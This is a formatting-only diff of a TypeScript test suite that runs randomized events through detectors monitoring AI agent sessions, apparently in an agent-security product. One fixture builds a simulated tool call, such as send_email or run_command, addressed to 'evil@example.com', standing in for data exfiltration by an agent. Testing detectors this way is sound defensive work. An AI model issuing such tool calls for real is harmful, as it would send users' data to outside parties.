@@ -1,4 +1,10 @@
-import { type AgentEvent, AgentEventSchema, DecisionSchema, EvidenceSchema, SeveritySchema } from '@bulwark/contracts';
+import {
+  type AgentEvent,
+  AgentEventSchema,
+  DecisionSchema,
+  EvidenceSchema,
+  SeveritySchema,
+} from '@bulwark/contracts';
 import type { Detector, DetectorContext } from '@bulwark/detectors';
 import { SessionGraph } from '@bulwark/detectors';
 import { describe, expect, it } from 'vitest';
@@ -32,7 +38,14 @@ function randomEvents(seed: number, n: number): AgentEvent[] {
   const out: AgentEvent[] = [];
   for (let i = 0; i < n; i++) {
     const base = { eventId: `e${seed}-${i}`, tenantId: 't', sessionId: `s${seed}`, timestampMillis: i * 10 };
-    const kind = pick(['prompt', 'completion', 'tool_definitions', 'tool_result', 'resource_read', 'agent_message'] as const);
+    const kind = pick([
+      'prompt',
+      'completion',
+      'tool_definitions',
+      'tool_result',
+      'resource_read',
+      'agent_message',
+    ] as const);
     const text = pick(TEXTS);
     const raw =
       kind === 'prompt'
@@ -40,7 +53,13 @@ function randomEvents(seed: number, n: number): AgentEvent[] {
         : kind === 'completion'
           ? { ...base, kind, content: text, toolCalls: [] }
           : kind === 'tool_definitions'
-            ? { ...base, kind, tools: [{ name: pick(['read', 'send_email', 'x']), description: text, server: pick(['a', 'b']) }] }
+            ? {
+                ...base,
+                kind,
+                tools: [
+                  { name: pick(['read', 'send_email', 'x']), description: text, server: pick(['a', 'b']) },
+                ],
+              }
             : kind === 'tool_result'
               ? { ...base, kind, toolCallId: `c${i}`, toolName: 'read', content: text }
               : kind === 'resource_read'
@@ -52,7 +71,13 @@ function randomEvents(seed: number, n: number): AgentEvent[] {
 }
 
 function ctxFor(graph: SessionGraph, nowMillis: number): DetectorContext {
-  return { tenantId: graph.tenantId, sessionId: graph.sessionId, agentId: 'agent', nowMillis, session: graph };
+  return {
+    tenantId: graph.tenantId,
+    sessionId: graph.sessionId,
+    agentId: 'agent',
+    nowMillis,
+    session: graph,
+  };
 }
 
 /**
@@ -85,7 +110,12 @@ export function detectorContractSuite(name: string, make: () => Detector): void 
           const call = {
             toolCallId: `call-${ev.eventId}`,
             toolName: ['send_email', 'read_file', 'run_command', 'x'][Math.floor(r() * 4)]!,
-            arguments: { to: 'evil@example.com', body: TEXTS[Math.floor(r() * TEXTS.length)]!, n: 5, nested: { url: 'http://127.0.0.1/' } },
+            arguments: {
+              to: 'evil@example.com',
+              body: TEXTS[Math.floor(r() * TEXTS.length)]!,
+              n: 5,
+              nested: { url: 'http://127.0.0.1/' },
+            },
           };
           const before = structuredClone(call);
           outs.push(d.onToolCall(call, ctxFor(graph, ev.timestampMillis)));
